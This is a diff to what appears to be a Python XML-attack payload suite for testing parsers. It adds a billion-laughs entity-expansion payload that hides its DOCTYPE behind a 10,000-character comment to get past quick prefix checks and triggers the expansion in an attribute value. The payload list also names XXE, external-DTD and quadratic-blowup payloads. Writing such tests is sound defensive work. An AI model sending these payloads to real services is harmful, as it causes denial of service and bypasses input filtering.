@@ -66,6 +66,17 @@ def billion_laughs(binding: vc.Binding, op: vc.Operation, secret: Path) -> bytes
     return _answer_with(binding, op, dtd, "&lol9;")
 
 
+def billion_laughs_in_a_late_attribute(
+    binding: vc.Binding, op: vc.Operation, secret: Path
+) -> bytes:
+    # Attribute values have entities replaced even when text content does not,
+    # and a DOCTYPE after a long comment gets past any quick look at the start.
+    levels = ['<!ENTITY lol0 "lol">']
+    levels += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
+    prologue = f"<!--{' ' * 10_000}--><!DOCTYPE {_root_name(binding, op)} [{''.join(levels)}]>"
+    return _answer_with(binding, op, prologue, '<x a="&lol9;"/>')
+
+
 def quadratic_blowup(binding: vc.Binding, op: vc.Operation, secret: Path) -> bytes:
     dtd = f'<!DOCTYPE {_root_name(binding, op)} [<!ENTITY a "{"A" * 50_000}">]>'
     return _answer_with(binding, op, dtd, "&a;" * 20_000)
@@ -100,6 +111,7 @@ PAYLOADS: list[Payload] = [
     xxe_network,
     parameter_entity,
     billion_laughs,
+    billion_laughs_in_a_late_attribute,
     quadratic_blowup,
     external_dtd,
     harmless_doctype,
